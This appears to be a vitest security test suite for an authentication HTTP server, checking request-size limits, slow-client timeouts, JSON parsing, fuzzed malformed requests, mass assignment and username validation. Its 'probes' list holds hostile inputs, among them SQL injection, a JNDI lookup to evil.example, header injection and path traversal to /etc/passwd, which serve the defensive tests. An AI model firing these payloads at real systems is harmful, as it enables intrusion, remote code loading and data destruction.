import { connect, type Socket } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { systemTimers } from '../../packages/server/src/adapters/system/timers.ts'
import { type Listening, listen, PATIENCE } from '../../packages/server/src/http/listen.ts'
import { createNodeHandler } from '../../packages/server/src/http/node-handler.ts'
import {
  addressOf,
  administrator,
  codeOf,
  openTestService,
  PASSWORD,
  signUp,
  type TestService,
  type Tokens,
} from '../support/service.ts'
import { codeIn, sendRaw } from '../support/socket.ts'

let service: TestService
let listening: Listening
let alice: Tokens
let admin: Tokens
beforeAll(async () => {
  service = await openTestService({ settings: { rateLimit: 'off' } })
  alice = await signUp(service, 'alice')
  admin = await administrator(service)
  listening = await listen(handler(), { host: '127.0.0.1', port: 0, timers: systemTimers })
})
afterAll(async () => {
  await listening.close(0)
  await service.close()
})

const handler = () => createNodeHandler(service.service.app, () => true)
const HOST = 'Host: localhost:4000\r\n'
const JSON_TYPE = 'Content-Type: application/json\r\n'
const send = (text: string) => sendRaw(listening.port, text)
const refusal = async (response: Response) => [response.status, await codeOf(response)]

/** A body of exactly so many bytes that is JSON all the same. */
function padded(length: number, value: object): string {
  const text = JSON.stringify(value)
  return text + ' '.repeat(length - text.length)
}
const LOGIN = { username: 'alice', password: PASSWORD, transport: 'none' }

function postText(path: string, text: BodyInit, headers: Record<string, string> = {}, token?: string) {
  return service.request(path, {
    method: 'POST',
    body: text,
    headers: { 'content-type': 'application/json', ...headers },
    token,
  })
}

describe('S-L01 bodies', () => {
  test('16 KiB under /auth is taken, one byte more is 413', async () => {
    expect((await postText('/auth/login', padded(16_384, LOGIN))).status).toBe(200)
    expect(await refusal(await postText('/auth/login', padded(16_385, LOGIN)))).toEqual([413, 'body_too_large'])
  })

  test('64 KiB elsewhere', async () => {
    const most = await postText('/admin/accounts', padded(65_536, { username: 'l01' }), {}, admin.access_token)
    expect(most.status).toBe(201)
    const more = await postText('/admin/accounts', padded(65_537, { username: 'l01-b' }), {}, admin.access_token)
    expect(await refusal(more)).toEqual([413, 'body_too_large'])
  })

  test('a declared length that is too large is refused before a byte of it came', async () => {
    const answer = await send(`POST /auth/login HTTP/1.1\r\n${HOST}${JSON_TYPE}Content-Length: 10000000\r\n\r\n`)
    expect([answer.statuses, codeIn(answer)]).toEqual([[413], 'body_too_large'])
  })

  test('without a length, it is refused as soon as there is too much, though more would come', async () => {
    const chunk = `1000\r\n${' '.repeat(0x1000)}\r\n`
    const head = `POST /auth/login HTTP/1.1\r\n${HOST}${JSON_TYPE}Transfer-Encoding: chunked\r\n\r\n`
    const answer = await send(head + chunk.repeat(5))
    expect([answer.statuses, codeIn(answer)]).toEqual([[413], 'body_too_large'])
    const text = JSON.stringify(LOGIN)
    const small = await send(`${head}${chunk}${text.length.toString(16)}\r\n${text}\r\n0\r\n\r\n`)
    expect(small.statuses).toEqual([200])
  })

  test.each([
    ['with a length', 'Content-Length: 1000000000000', ' '.repeat(0x10000)],
    ['in chunks', 'Transfer-Encoding: chunked', `10000\r\n${' '.repeat(0x10000)}\r\n`],
  ])('one that never ends, %s, is cut off soon after its answer', async (_name, header, part) => {
    const startedAt = performance.now()
    const sender = open(listening.port, `POST /auth/login HTTP/1.1\r\n${HOST}${JSON_TYPE}${header}\r\n\r\n`)
    const sending = (async () => {
      while (sender.socket.writable) {
        sender.socket.write(part)
        await sleep(1)
      }
    })()
    expect(await sender.closed).toMatch(/^HTTP\/1\.1 413 /)
    await sending
    expect(performance.now() - startedAt).toBeLessThan(5_000)
  })

  test.each(['gzip', 'br', 'deflate', 'zstd', 'identity', 'gzip, gzip', 'x-own'])(
    'Content-Encoding %s is 415: few bytes never become many',
    async (encoding) => {
      const refused = await postText('/auth/login', JSON.stringify(LOGIN), { 'content-encoding': encoding })
      expect(await refusal(refused)).toEqual([415, 'media_type_unsupported'])
    },
  )

  test('a body that breaks off is no fault of ours', async () => {
    const before = service.logs.filter((line) => line.includes('"level":"error"')).length
    const socket = connect(listening.port, '127.0.0.1')
    socket.write(`POST /auth/login HTTP/1.1\r\n${HOST}${JSON_TYPE}Content-Length: 100\r\n\r\n{"user`)
    const lines = service.logs.length
    await sleep(30)
    socket.destroy()
    while (service.logs.length === lines) await sleep(5)
    expect(service.logs.at(-1)).toContain('"status":400')
    expect(service.logs.filter((line) => line.includes('"level":"error"')).length).toBe(before)
  })
})

describe('S-L02 slow clients', () => {
  test('headers have 10 s, a request 30 s, an idle connection 5 s, all looked after each second', () => {
    expect(PATIENCE.headersTimeout).toBeLessThanOrEqual(10_000)
    expect(PATIENCE.requestTimeout).toBeLessThanOrEqual(30_000)
    expect(PATIENCE.keepAliveTimeout).toBeLessThanOrEqual(5_000)
    expect(PATIENCE.connectionsCheckingInterval).toBeLessThanOrEqual(1_000)
  })

  test('500 that never finish are let go one by one, and others are served meanwhile', async () => {
    // The same, ten to twenty times as fast.
    const patience = {
      headersTimeout: 700,
      requestTimeout: 1_500,
      keepAliveTimeout: 500,
      connectionsCheckingInterval: 100,
    }
    const quick = await listen(handler(), { host: '127.0.0.1', port: 0, timers: systemTimers, patience })
    const kinds = {
      'nothing at all': '',
      'half a header': `GET /auth/me HTTP/1.1\r\n${HOST}X-A: `,
      'half a body': `POST /auth/login HTTP/1.1\r\n${HOST}${JSON_TYPE}Content-Length: 50\r\n\r\n{`,
      'half a chunk': `POST /auth/login HTTP/1.1\r\n${HOST}${JSON_TYPE}Transfer-Encoding: chunked\r\n\r\n10\r\n{`,
      'an answer, and then nothing': `GET /health/live HTTP/1.1\r\n${HOST}\r\n`,
    }
    const slow = Object.values(kinds).flatMap((text) => Array.from({ length: 100 }, () => open(quick.port, text)))
    const startedAt = performance.now()
    const times: number[] = []
    while (performance.now() - startedAt < 1_000) {
      const at = performance.now()
      const served = await sendRaw(quick.port, `GET /health/ready HTTP/1.1\r\n${HOST}Connection: close\r\n\r\n`)
      times.push(performance.now() - at)
      expect(served.statuses).toEqual([200])
    }
    expect(times.length).toBeGreaterThan(3)
    const texts = await Promise.all(slow.map((one) => one.closed))
    expect(performance.now() - startedAt).toBeLessThan(10_000)
    expect(texts.filter((text) => text.startsWith('HTTP/1.1 200 ')).length).toBe(100)
    // The others are told so (RFC 9110 §15.5.9) or closed, and nothing of theirs was served.
    expect(texts.filter((text) => text !== '' && !/^HTTP\/1\.1 (?:408|200) /.test(text))).toEqual([])
    expect(texts.filter((text) => text.startsWith('HTTP/1.1 408 ')).length).toBeGreaterThanOrEqual(100)
    await quick.close(0)
  })

  test('one that writes a byte now and then is let go all the same', async () => {
    const patience = {
      headersTimeout: 400,
      requestTimeout: 800,
      keepAliveTimeout: 500,
      connectionsCheckingInterval: 50,
    }
    const quick = await listen(handler(), { host: '127.0.0.1', port: 0, timers: systemTimers, patience })
    const head = open(quick.port, `GET /auth/me HTTP/1.1\r\n${HOST}`)
    const body = open(quick.port, `POST /auth/login HTTP/1.1\r\n${HOST}${JSON_TYPE}Content-Length: 5000\r\n\r\n{`)
    const drip = new AbortController()
    const dripping = (async () => {
      while (!drip.signal.aborted) {
        if (head.socket.writable) head.socket.write('X-A: a\r\n')
        if (body.socket.writable) body.socket.write(' ')
        await sleep(20)
      }
    })()
    expect(await head.closed).toMatch(/^HTTP\/1\.1 408 /)
    expect(await body.closed).toMatch(/^HTTP\/1\.1 408 /)
    drip.abort()
    await dripping
    await quick.close(0)
  })
})

/** A connection that says this and no more, and what it hears until it is closed. */
function open(port: number, text: string): { readonly socket: Socket; readonly closed: Promise<string> } {
  const socket = connect(port, '127.0.0.1')
  let heard = ''
  socket.setEncoding('latin1').on('data', (part) => {
    heard += part
  })
  socket.on('error', () => undefined)
  socket.write(text)
  return { socket, closed: new Promise((resolve) => socket.on('close', () => resolve(heard))) }
}

describe('S-L03 JSON', () => {
  const MEMBERS = Array.from({ length: 1_000 }, (_, i) => `"m${i}":1`).join(',')
  test.each([
    ['nested as deep as fits', `{"username":${'['.repeat(8_000)}${']'.repeat(8_000)}}`, 422],
    ['objects nested as deep as fits', `${'{"a":'.repeat(2_300)}1${'}'.repeat(2_300)}`, 422],
    ['nested and never closed', '['.repeat(16_000), 400],
    ['deeper than fits', '['.repeat(100_000), 413],
    ['a thousand members', `{${MEMBERS}}`, 422],
    ['a hundred thousand members', `{${Array.from({ length: 100_000 }, (_, i) => `"${i}":0`).join(',')}}`, 413],
    ['a number beyond all numbers', '{"username":1e999,"password":"x"}', 422],
    ['a number of many digits', `{"username":${'9'.repeat(5_000)},"password":"x"}`, 422],
    ['a name twice', '{"username":"alice","username":"bob","password":"x"}', 400],
    ['a name twice, once escaped', '{"username":"alice","\\u0075sername":"bob","password":"x"}', 400],
    ['a name twice below', '{"username":{"a":1,"a":2},"password":"x"}', 400],
    ['a list', '[]', 422],
    ['a text', '"username"', 422],
    ['null', 'null', 422],
    ['nothing', ' ', 400],
    ['NaN', '{"username":NaN}', 400],
    ['a comment', '{}/**/', 400],
    ['a comma at the end', '{"username":"a",}', 400],
    ['a single quote', "{'username':'a'}", 400],
    ['two values', '{}{}', 400],
    ['a byte order mark', '\ufeff{}', 400],
    ['a control in a text', '{"username":"a\nb"}', 400],
  ])('%s', async (_name, text, status) => {
    const refused = await postText('/auth/login', text)
    expect(refused.status).toBe(status)
    expect(refused.headers.get('content-type')).toBe('application/problem+json; charset=utf-8')
  })

  test.each([
    ['no UTF-8', [0x7b, 0x22, 0xff, 0x22, 0x3a, 0x31, 0x7d]],
    ['overlong', [0x7b, 0x22, 0xc0, 0x80, 0x22, 0x3a, 0x31, 0x7d]],
    ['a surrogate in UTF-8', [0x7b, 0x22, 0xed, 0xa0, 0x80, 0x22, 0x3a, 0x31, 0x7d]],
    ['UTF-16', [0xff, 0xfe, 0x7b, 0x00, 0x7d, 0x00]],
  ])('bytes that are %s', async (_name, bytes) => {
    expect(await refusal(await postText('/auth/login', new Uint8Array(bytes)))).toEqual([400, 'request_malformed'])
  })

  test.each(['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', '__defineGetter__'])(
    'a member %s is one that there is not, and changes no prototype',
    async (name) => {
      const text = `{"username":"alice","password":"${PASSWORD}","${name}":{"scope":"admin","polluted":true}}`
      const refused = await postText('/auth/login', text)
      expect(refused.status).toBe(422)
      expect(await refused.json()).toMatchObject({ errors: [{ pointer: `/${name}`, code: 'member_unknown' }] })
      expect(Reflect.get({}, 'polluted')).toBeUndefined()
    },
  )

  test('control: blanks around, and members in any order', async () => {
    const text = ` \r\n{ "transport" : "none",\t"password":"${PASSWORD}","\\u0075sername":"alice"} `
    expect((await postText('/auth/login', text)).status).toBe(200)
  })
})

test('S-L04 10,000 malformed requests: no answer of 500 and more, and the service lives', async () => {
  const random = mulberry(20_260_101)
  const pick = <T>(list: readonly T[]): T => list[Math.floor(random() * list.length)] as T
  const noise = (length: number) => String.fromCharCode(...Array.from({ length }, () => Math.floor(random() * 256)))
  const methods = [
    'GET',
    'POST',
    'POST',
    'POST',
    'PATCH',
    'DELETE',
    'OPTIONS',
    'TRACE',
    'HEAD',
    'PUT',
    'get',
    'FOO',
    '',
    noise(3),
  ]
  const targets = [
    '/auth/login',
    '/auth/refresh',
    '/auth/refresh/revoke',
    '/auth/register',
    '/auth/me',
    '/auth/sessions/%ff',
    '/auth/sessions/%',
    '/auth/password/change',
    '/admin/accounts?limit=%ff&cursor=%00',
    '/admin/accounts/%E0%A4%A',
    '/health/ready?',
    '/.well-known/jwks.json#x',
    '//',
    '/?',
    '*',
    'http://',
    'http://[::1/x',
    '/\\',
    '',
    '/%',
    '/auth/login?%',
    noise(12).replaceAll(/[\r\n ]/g, 'x'),
  ]
  const versions = [...Array<string>(12).fill('HTTP/1.1'), 'HTTP/1.0', 'HTTP/2.0', 'HTTP/9.9', 'http/1.1', '']
  const headers = [
    HOST,
    'Host: [::1\r\n',
    'Host: %00\r\n',
    JSON_TYPE,
    JSON_TYPE,
    'Content-Type: application/json; charset=utf-16\r\n',
    'Content-Length: 4\r\n',
    'Content-Length: 40\r\n',
    'Content-Length: -1\r\n',
    'Transfer-Encoding: chunked\r\n',
    'Authorization: Basic !!!\r\n',
    'Authorization: Basic gIA6gIA=\r\n',
    'Authorization: Bearer a.b.c\r\n',
    'Authorization: Bearer \r\n',
    'Authorization: Bearer eyJhbGciOiJub25lIn0.e30.\r\n',
    'Cookie: csn_b=%%%; csn_rt-=x; =; ;;\r\n',
    'Origin: \x80\r\n',
    'If-None-Match: W/"\r\n',
    'X-Forwarded-For: ,,,\r\n',
    'x-request-id: \t\r\n',
    'Expect: 100-continue\r\n',
    `X-Noise: ${noise(20)}\r\n`,
    `${noise(8)}: x\r\n`,
  ]
  const bodies = [
    '',
    '{}',
    '{"username":',
    '{"refresh_token":"csn_rt_x"}',
    '4\r\n{}{}\r\n0\r\n\r\n',
    '[[[[',
    '"\\ud800"',
    noise(30),
  ]
  const one = () => {
    const some = Array.from({ length: Math.floor(random() * 4) }, () => pick(headers)).join('')
    const host = random() < 0.9 ? HOST : ''
    const body = pick(bodies)
    const length = random() < 0.8 ? `Content-Length: ${body.length}\r\n` : ''
    const blank = random() < 0.98 ? '\r\n' : noise(2)
    return `${pick(methods)} ${pick(targets)} ${pick(versions)}\r\n${host}${length}${some}Connection: close\r\n${blank}${body}`
  }
  const counts = new Map<number, number>()
  const errorsBefore = service.logs.filter((line) => line.includes('"level":"error"')).length
  let left = 10_000
  const work = async () => {
    while (left-- > 0) {
      const [status = 0] = await finish(one())
      counts.set(status, (counts.get(status) ?? 0) + 1)
    }
  }
  await Promise.all(Array.from({ length: 40 }, work))
  expect([...counts.keys()].filter((status) => status >= 500)).toEqual([])
  // It is the service that refused most of them, not the parser alone.
  expect(counts.get(400)).toBeGreaterThan(1_000)
  for (const status of [200, 401, 404, 405, 415]) expect(counts.get(status), String(status)).toBeGreaterThan(20)
  expect(service.logs.filter((line) => line.includes('"level":"error"')).length).toBe(errorsBefore)
  expect((await postText('/auth/login', JSON.stringify(LOGIN))).status).toBe(200)
})

/** Says this, ends its side, and hears the statuses of what comes back. */
function finish(text: string): Promise<readonly number[]> {
  return new Promise((resolve) => {
    const socket = connect(listening.port, '127.0.0.1')
    let heard = ''
    socket.setEncoding('latin1').on('data', (part) => {
      heard += part
    })
    socket.on('error', () => undefined)
    socket.on('close', () =>
      resolve([...heard.matchAll(/HTTP\/1\.1 ([2-9][0-9]{2}) /g)].map(([, status]) => Number(status))),
    )
    socket.end(Buffer.from(text, 'latin1'))
  })
}

/** The same requests in every run. */
function mulberry(seed: number): () => number {
  let state = seed
  return () => {
    state = (state + 0x6d2b79f5) | 0
    let t = Math.imul(state ^ (state >>> 15), 1 | state)
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t
    return ((t ^ (t >>> 14)) >>> 0) / 4_294_967_296
  }
}

describe('S-L05 header block, cookies, address', () => {
  const get = (target: string, more: string) => send(`GET ${target} HTTP/1.1\r\n${HOST}${more}\r\n`)
  test('a header block of more than 16 KiB is 431, in one header or in many', async () => {
    expect((await get('/health/live', `X-A: ${'a'.repeat(16_400)}\r\n`)).statuses).toEqual([431])
    expect((await get('/health/live', 'X-A: aaaa\r\n'.repeat(1_700))).statuses).toEqual([431])
    expect((await get('/health/live', `X-A: ${'a'.repeat(15_000)}\r\n`)).statuses).toEqual([200])
  })

  test('1,000 cookies are 431, however small; as many as browsers keep are served', async () => {
    const cookies = (count: number) => `Cookie: ${Array.from({ length: count }, (_, i) => `k${i}=v`).join('; ')}\r\n`
    expect((await get('/health/live', cookies(1_000))).statuses).toEqual([431])
    expect((await get('/health/live', cookies(500).repeat(2))).statuses).toEqual([431])
    expect((await get('/health/live', cookies(200))).statuses).toEqual([200])
  })

  test('an address of more than 8 KiB is 414', async () => {
    const answer = await get(`/health/live?${'a'.repeat(8_300)}`, '')
    expect([answer.statuses, codeIn(answer)]).toEqual([[414], 'url_too_long'])
    expect((await get(`/health/live?${'a'.repeat(7_000)}`, '')).statuses).toEqual([200])
  })
})

describe('S-L06 mass assignment', () => {
  const SURPLUS = {
    roles: ['admin'],
    scope: 'admin',
    email_verified: true,
    id: 'x',
    ver: 9,
    disabled: false,
    created_at: 1,
  }
  const MORE = { ...SURPLUS, client_id: 'x', transport: 'body', username_mapped: 'x', password_hash: 'x' }

  async function expectUnknown(response: Response, name: string): Promise<void> {
    expect(response.status).toBe(422)
    expect(await response.json()).toMatchObject({
      code: 'body_invalid',
      errors: [{ pointer: `/${name}`, code: 'member_unknown' }],
    })
  }

  test.each(Object.entries(MORE))('register with %s', async (name, value) => {
    const body = { username: 'l06', password: PASSWORD, [name]: value }
    await expectUnknown(await service.post('/auth/register', body), name)
    const login = await service.post('/auth/login', { username: 'l06', password: PASSWORD })
    expect(login.status).toBe(401)
  })

  test.each(Object.entries(MORE))('password change with %s', async (name, value) => {
    const body = { current_password: PASSWORD, new_password: 'another long passphrase', [name]: value }
    await expectUnknown(await service.post('/auth/password/change', body, { token: alice.access_token }), name)
    expect((await service.post('/auth/login', LOGIN)).status).toBe(200)
  })

  test.each(['email_verified', 'id', 'ver', 'scope', 'username', 'password', 'created_at', 'one_time_password'])(
    'an administrator sets %s',
    async (name) => {
      const path = `/admin/accounts/${alice.account.id}`
      const token = admin.access_token
      const before = await (await service.request(path, { token })).json()
      const patch = await service.request(path, {
        method: 'PATCH',
        token,
        json: { email: 'new@example.com', [name]: 'x' },
      })
      await expectUnknown(patch, name)
      const made = await service.post(
        '/admin/accounts',
        { username: 'l06-b', [name === 'username' ? 'ver' : name]: 'x' },
        { token },
      )
      await expectUnknown(made, name === 'username' ? 'ver' : name)
      expect(await (await service.request(path, { token })).json()).toEqual(before)
    },
  )

  test('what surplus rides along with the rest of a log-in, a refresh, a rotation', async () => {
    await expectUnknown(await service.post('/auth/login', { ...LOGIN, roles: ['admin'] }), 'roles')
    await expectUnknown(await service.post('/auth/refresh', { refresh_token: 'x', session_id: 'y' }), 'session_id')
    const rotate = await service.post('/admin/keys/rotate', { now: false, alg: 'HS256' }, { token: admin.access_token })
    await expectUnknown(rotate, 'alg')
    const logout = await service.post('/auth/logout', { session_id: 'x' }, { token: alice.access_token })
    await expectUnknown(logout, 'session_id')
    expect((await service.request('/auth/me', { token: alice.access_token })).status).toBe(200)
  })
})

describe('S-L07 types', () => {
  const WRONG: readonly unknown[] = [['a', 'b'], { $ne: '' }, 7, true, null, []]
  test.each(['username', 'password', 'email'])('register: %s is a text and nothing else', async (name) => {
    for (const value of WRONG) {
      const refused = await service.post('/auth/register', {
        username: 'l07',
        password: PASSWORD,
        email: 'l07@example.com',
        [name]: value,
      })
      expect(refused.status).toBe(422)
      const { errors } = (await refused.json()) as { errors: { pointer: string }[] }
      expect(errors.map(({ pointer }) => pointer)).toEqual([`/${name}`])
    }
  })

  test.each([
    ['/auth/login', { ...LOGIN, scope: ['admin'] }, '/scope'],
    ['/auth/login', { ...LOGIN, audience: { a: 1 } }, '/audience'],
    ['/auth/login', { ...LOGIN, audience: ['ok', 7] }, '/audience'],
    ['/auth/login', { ...LOGIN, audience: [] }, '/audience'],
    ['/auth/login', { ...LOGIN, transport: 'COOKIE' }, '/transport'],
    ['/auth/login', { ...LOGIN, transport: ['body'] }, '/transport'],
    ['/auth/refresh', { refresh_token: ['x'] }, '/refresh_token'],
    ['/auth/refresh', { refresh_token: null }, '/refresh_token'],
    ['/auth/refresh/revoke', { refresh_token: 'x', session_id: 7 }, '/session_id'],
  ])('%s with %j', async (path, body, pointer) => {
    const refused = await service.post(path, body)
    expect(refused.status).toBe(422)
    expect(await refused.json()).toMatchObject({ code: 'body_invalid', errors: [{ pointer }] })
  })

  test.each([
    [{ roles: 'admin' }, '/roles'],
    [{ roles: ['clerk', 7] }, '/roles/1'],
    [{ disabled: 'false' }, '/disabled'],
    [{ disabled: 1 }, '/disabled'],
    [{ disabled: null }, '/disabled'],
    [{ email: ['a@example.com', 'b@example.com'] }, '/email'],
  ])('an administrator’s change with %j', async (json, pointer) => {
    const path = `/admin/accounts/${alice.account.id}`
    const refused = await service.request(path, { method: 'PATCH', token: admin.access_token, json })
    expect(refused.status).toBe(422)
    expect(await refused.json()).toMatchObject({ errors: [{ pointer }] })
  })

  test('a form is no body', async () => {
    const form = 'email=a%40example.com&email=b%40example.com&username=alice'
    const refused = await postText('/auth/register', form, { 'content-type': 'application/x-www-form-urlencoded' })
    expect(await refusal(refused)).toEqual([415, 'media_type_unsupported'])
  })

  test('a query parameter twice, or of another kind', async () => {
    const token = admin.access_token
    for (const query of [
      'limit=0',
      'limit=201',
      'limit=-1',
      'limit=1e2',
      'limit=',
      'limit=٣',
      'limit=1&limit=2',
      'cursor=%00',
      "cursor='",
    ]) {
      const refused = await service.request(`/admin/accounts?${query}`, { token })
      expect([query, ...(await refusal(refused))]).toEqual([query, 400, 'request_malformed'])
    }
    expect((await service.request('/admin/accounts?limit=200', { token })).status).toBe(200)
  })
})

describe('S-L08 probes', () => {
  const PROBES = [
    "' OR '1'='1",
    "'; DROP TABLE accounts; --",
    '" OR ""="',
    "admin'--",
    '{{7*7}}',
    '$' + '{7*7}',
    '<%= 7*7 %>',
    '$' + '{jndi:ldap://evil.example/a}',
    'x\r\nSet-Cookie: a=b',
    '../../../../etc/passwd',
    '%s%n%x',
    '() { :; }; echo',
    '*)(uid=*',
  ]

  test.each(PROBES)('%j in every field is a text or refused', async (probe) => {
    const before = (await (await service.request('/admin/accounts', { token: admin.access_token })).json()).accounts
      .length
    const peer = addressOf(probe)
    // The alphabet of a scope (RFC 6749 §3.3).
    const isScope = /^[\x20-\x21\x23-\x5b\x5d-\x7e]*$/.test(probe)
    const answers = [
      await service.post('/auth/login', { username: probe, password: probe }, { peer }),
      await service.post('/auth/login', { ...LOGIN, scope: probe }, { peer }),
      await service.post('/auth/login', { ...LOGIN, audience: probe }, { peer }),
      await service.post('/auth/refresh', { refresh_token: probe }, { peer }),
      await service.post('/auth/refresh/revoke', { refresh_token: probe, session_id: probe }, { peer }),
      await service.post('/auth/register', { username: probe, password: 'short' }, { peer }),
      await service.request(`/auth/sessions/${encodeURIComponent(probe).replaceAll('%2F', '_')}`, {
        method: 'DELETE',
        token: alice.access_token,
      }),
      await service.request(`/admin/accounts/${encodeURIComponent(probe).replaceAll('%2F', '_')}`, {
        token: admin.access_token,
      }),
      await service.request(`/admin/accounts?cursor=${encodeURIComponent(probe)}`, { token: admin.access_token }),
      await service.request(`/docs?${encodeURIComponent(probe)}`),
    ]
    expect(answers.map(({ status }) => status)).toEqual([
      401,
      isScope ? 200 : 422,
      422,
      401,
      204,
      422,
      404,
      404,
      400,
      200,
    ])
    for (const answer of answers) {
      const text = await answer.text()
      expect(text).not.toContain(probe)
      expect(text).not.toContain(JSON.stringify(probe).slice(1, -1))
      expect([...answer.headers.values()].join()).not.toContain('evil')
    }
    const after = (await (await service.request('/admin/accounts', { token: admin.access_token })).json()).accounts
      .length
    expect(after).toBe(before)
  })

  test('values never stand in a statement', () => {
    const text = service.statements.join('\n')
    expect(text.length).toBeGreaterThan(1_000)
    for (const value of ['alice', 'DROP TABLE', 'jndi', "'1'='1", 'new@example.com']) expect(text).not.toContain(value)
  })
})

describe('S-L09 names', () => {
  const tryName = (username: string) =>
    service.post('/auth/register', { username, password: PASSWORD }, { peer: addressOf(username) })

  test.each([
    ['a NUL', 'a\0b'],
    ['a control', 'a\u0007b'],
    ['a control of the second row', 'a\u0085b'],
    ['a delete', 'a\u007fb'],
    ['a line break', 'a\nb'],
    ['a blank', 'a b'],
    ['a no-break space', 'a\u00a0b'],
    ['a zero-width space', 'a\u200bb'],
    ['a mark that turns the direction', 'a\u202eb'],
    ['an isolate', 'a\u2067b'],
    ['a byte order mark', 'a\ufeffb'],
    ['a tag', 'a\u{e0041}b'],
    ['a private sign', 'a\ue000b'],
    ['an unassigned sign', 'a\u0378b'],
    ['a sign that is none', 'a\uffffb'],
    ['a full-width letter that maps to @', 'a\uff20b'],
    ['an emoji', 'a😀b'],
    ['an at sign', 'a@b'],
    ['nothing', ''],
    ['65 characters', 'x'.repeat(65)],
  ])('%s is refused', async (_name, username) => {
    const refused = await tryName(username)
    expect(refused.status).toBe(422)
    expect(await refused.json()).toMatchObject({ errors: [{ pointer: '/username' }] })
  })

  test('a lone surrogate is refused, in every text', async () => {
    for (const name of ['username', 'password', 'email']) {
      const text = JSON.stringify({
        username: 'l09-s',
        password: PASSWORD,
        email: 'a@example.com',
        [name]: 'X',
      }).replace('"X"', '"a\\ud800b"')
      const refused = await postText('/auth/register', text)
      expect(refused.status).toBe(422)
      expect(await refused.json()).toMatchObject({ errors: [{ pointer: `/${name}` }] })
    }
  })

  test('letters of other scripts, also beyond the first plane, are kept, in NFC and one name with any form', async () => {
    const made = await tryName('Zo\u0065\u0301-𠮷田')
    expect(made.status).toBe(201)
    expect(await made.json()).toMatchObject({ username: 'Zoé-𠮷田' })
    expect(await refusal(await tryName('zoé-𠮷田'))).toEqual([409, 'username_taken'])
    const login = await service.post('/auth/login', { username: 'ZOÉ-𠮷田', password: PASSWORD, transport: 'none' })
    expect(login.status).toBe(200)
  })
})
